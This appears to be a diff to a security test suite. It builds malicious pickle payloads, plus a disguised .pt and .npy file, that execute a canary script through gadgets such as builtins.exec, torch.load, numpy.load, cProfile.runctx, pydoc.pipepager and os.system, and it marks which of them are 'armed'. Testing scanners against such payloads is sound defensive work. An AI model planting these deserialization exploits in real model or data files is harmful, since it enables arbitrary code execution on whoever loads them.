@@ -75,7 +75,10 @@ def canary_code(folder: Path) -> str:
 
 def place_accomplices(folder: Path) -> None:
     (folder / "script.py").write_text(canary_code(folder))
-    (folder / "nested.pt").write_bytes(in_zip(b"\x80\2" + call(b"cbuiltins\nexec\n", text(canary_code(folder))) + b"."))
+    nested = b"\x80\2" + call(b"cbuiltins\nexec\n", text(canary_code(folder))) + b"."
+    (folder / "nested.pt").write_bytes(in_zip(nested))
+    head = b"{'descr': '|O', 'fortran_order': False, 'shape': ()}".ljust(117) + b"\n"
+    (folder / "nested.npy").write_bytes(b"\x93NUMPY\1\0" + len(head).to_bytes(2, "little") + head + nested)
 
 
 def attacks(folder: Path) -> dict[str, bytes]:
@@ -110,6 +113,27 @@ def attacks(folder: Path) -> dict[str, bytes]:
             name("functools", "partial") + sequence(name("torch", "load")) + mapping(weights_only=b"\x89") + b"\x92",
             text(str(folder / "nested.pt")),
         ),
+        "torch.utils.collect_env": call(name("torch.utils.collect_env", "run"), text(shell)),
+        "torch's execWrapper": call(name("torch.jit.unsupported_tensor_ops", "execWrapper"), text(python), b"}", b"}"),
+        "torch.serialization.load": call(name("torch.serialization", "load"), text(str(folder / "nested.pt"))),
+        "torch.jit.load": call(name("torch.jit", "load"), text(str(folder / "nested.pt"))),
+        "torch.package": call(name("torch.package", "PackageImporter"), text(str(folder / "nested.pt"))),
+        "torch.ops.load_library": call(name("torch", "ops.load_library"), text(str(folder / "nested.pt"))),
+        "torch.utils.cpp_extension": call(name("torch.utils.cpp_extension", "load"), text("a"), text("a.cpp")),
+        "torch.distributed.rpc": call(name("torch.distributed.rpc.internal", "_run_function"), name("os", "system")),
+        "ctypes.CDLL": call(name("ctypes", "CDLL"), text(str(folder / "nested.pt"))),
+        "numpy.load": call(name("numpy", "load"), text(str(folder / "nested.npy")), b"N", b"\x88"),
+        "numpy.f2py": call(name("numpy.f2py.crackfortran", "myeval"), text(python)),
+        "numpy.ctypeslib": call(name("numpy.ctypeslib", "load_library"), text("nested.pt"), text(str(folder))),
+        "numpy's array of objects": call(
+            name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), number(0), b"C\1b"
+        )
+        + sequence(number(1), number(1), text("O"), b"\x89", b"]" + call(b"cos\nsystem\n", text(shell)) + b"a")
+        + b"b",
+        "timeit": call(name("timeit", "timeit"), text("pass"), text(python)),
+        "cProfile": call(name("cProfile", "runctx"), text(python), b"}", b"}"),
+        "code": call(name("code", "interact"), text(""), b"N", b"}"),
+        "pydoc": call(name("pydoc", "pipepager"), text(""), text(shell)),
         "torch.hub": call(name("torch.hub", "load"), text(str(folder)), text("model"), text("local")),
         "torch.storage._load_from_bytes": call(
             name("torch.storage", "_load_from_bytes"), b"B" + len(nested).to_bytes(4, "little") + nested
@@ -157,6 +181,13 @@ ARMED = [
     "runpy.run_path",
     "torch.storage._load_from_bytes",
     "torch.load",
+    "torch.utils.collect_env",
+    "torch's execWrapper",
+    "numpy.load",
+    "numpy's array of objects",
+    "timeit",
+    "cProfile",
+    "pydoc",
     "pickle.loads",
     "dotted name",
     "getattr",
